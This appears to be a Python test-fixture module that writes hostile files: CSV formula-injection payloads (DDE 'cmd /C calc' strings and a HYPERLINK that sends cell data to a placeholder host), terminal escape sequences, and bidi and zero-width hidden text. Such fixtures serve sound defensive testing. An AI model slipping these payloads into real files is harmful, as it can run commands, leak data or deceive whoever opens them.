"""Content aimed at whoever looks at it: a spreadsheet, a page, a terminal."""

FORMULAS = ('=HYPERLINK("https://atoll.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)*cmd|' /C calc'!A0", "\t=1+1")
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mreleased\x1b[8m\x9b5n"


def formula(folder, options):
    (folder / "table.csv").write_text("kind,count\n" + "\n".join(f'"{text.replace(chr(34), chr(34) * 2)}",12' for text in FORMULAS) + "\n")


def escapes_in_text(folder, options):
    (folder / "notes.txt").write_text(f"all is well {ESCAPES}\n")


def escapes_in_csv(folder, options):
    (folder / "table.csv").write_text(f'kind,count\n"{ESCAPES}",3\n')


def unseen_in_text(folder, options):
    """Direction marks, zero-width characters and tags: text that reads as something else, or holds what nobody sees."""
    hidden = "".join("\u200b" if byte == "0" else "\u200c" for byte in f"{0x726F77:024b}")
    (folder / "notes.txt").write_text(f"released\u202e dlehhtiw{hidden}\U000e0072\n")
